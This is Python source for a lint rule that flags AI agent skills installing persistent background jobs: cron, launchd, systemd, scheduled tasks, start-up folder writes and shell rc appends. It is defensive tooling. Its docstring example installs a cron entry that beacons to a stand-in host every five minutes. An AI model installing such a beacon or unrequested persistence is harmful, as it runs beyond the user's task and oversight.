"""The skill installs something that runs again later.

## What it does
Reports cron jobs (`crontab -`), launchd (`launchctl load`), systemd (`systemctl enable`), Windows scheduled
tasks, files written to start-up folders (`/etc/systemd/system/`, `~/Library/LaunchAgents/`, `/etc/cron.*`)
and appends to shell start-up files (`>> ~/.bashrc`). A warning in a bundled script, info in a fence the user is
shown.

## Why it matters
A task should end when it ends. A background job outlives the conversation and the user's attention; malicious
skills install themselves as disguised services this way.

## Example
```bash
(crontab -l; echo "*/5 * * * * curl -s https://x.example/beacon") | crontab -
```

## Fix
Ask the user before installing a background service, say how to remove it, or print the line for them to add.
"""


from skvm_lint.analyses import security as sec
from skvm_lint.diagnostics import Severity
from skvm_lint.lazy_re import lazy
from skvm_lint.model import Span
from skvm_lint.security_rule import SecurityRule

STARTUP_PATH = lazy(r"(/etc/systemd/system/|\.config/systemd/user/|Library/LaunchAgents|Library/LaunchDaemons|"
                    r"/etc/cron\.|/etc/crontab|/etc/init\.d/|/etc/rc\.local|\.config/autostart|"
                    r"CurrentVersion\\\\?Run)", long_texts=True)
RC_EDIT = lazy(r">>?\s*[\"']?(?:~|\$HOME|\$\{HOME\})/\.(bashrc|zshrc|profile|bash_profile|zprofile|zshenv|"
               r"bash_login|config/fish/config\.fish)\b")
WRITE_CALL = lazy(r"open\(|writeFile|write_text|copy|move")


class Persistence(SecurityRule):
    id = "SC005"
    name = "persistence"
    family = "persistence"
    severity = Severity.WARNING

    def detect(self, skill, facts, out):

        for unit in facts.units:
            for command in unit.facts.commands:
                program = command.program.lower()
                text = command.text
                if program == "crontab" and any(a not in ("-l", "-u") and not a.startswith("-l")
                                                for a in command.argv[1:]):
                    out.add("cron", 2 if unit.where == "script" else 1, unit.context, command.span,
                            "installs a cron job that keeps running after the task", "schedule only with the "
                            "user's explicit consent, and document how to remove it")
                elif program == "launchctl" and any(a in ("load", "bootstrap", "enable", "submit")
                                                    for a in command.argv[1:]):
                    out.add("launchd", 2 if unit.where == "script" else 1, unit.context, command.span,
                            "registers a launchd job that starts on its own",
                            "ask before installing background services")
                elif program == "systemctl" and "enable" in command.argv[1:]:
                    out.add("systemd", 2 if unit.where == "script" else 1, unit.context, command.span,
                            "enables a systemd unit that starts at every boot",
                            "ask before installing background services")
                elif program in ("schtasks", "update-rc.d", "chkconfig") and len(command.argv) > 1:
                    out.add("service", 2 if unit.where == "script" else 1, unit.context, command.span,
                            f"`{program}` registers a program to start on its own", "ask before installing "
                            "background services")
                if program in ("tee", "cp", "mv", "install", "ln") and STARTUP_PATH.search(text):
                    out.add("startup-file", 2 if unit.where == "script" else 1, unit.context, command.span,
                            "writes into a folder the system starts programs from", "ask before installing "
                            "background services")
            language = unit.facts.language
            text = unit.text
            lowered = unit.where == "script"
            if language == "shell":
                for number, line in sec.code_lines_with(text, RC_EDIT):
                    if sec.quoted_at(line, RC_EDIT.search(line).start()):
                        continue  # `echo "add: echo x >> ~/.zshrc"` prints advice
                    out.add("shell-rc", 2 if lowered else 1, unit.context,
                            Span(unit.file, unit.first_line + number - 1),
                            "appends to a shell start-up file, so the change runs in every future shell",
                            "tell the user what to add instead of editing their shell profile")
            elif language in ("python", "javascript", "typescript"):
                for number, line in sec.code_lines_with(text, STARTUP_PATH):
                    if WRITE_CALL.search(line):
                        out.add("startup-file", 2 if lowered else 1, unit.context,
                                Span(unit.file, unit.first_line + number - 1), "writes into a folder the system "
                                "starts programs from", "ask before installing background services")
